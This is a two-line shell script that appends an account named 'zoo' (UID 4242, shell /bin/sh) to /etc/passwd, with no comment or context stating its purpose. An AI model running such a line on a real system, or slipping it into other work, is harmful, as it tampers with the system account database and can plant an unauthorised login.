#!/bin/sh
echo 'zoo:x:4242:4242::/:/bin/sh' >> /etc/passwd
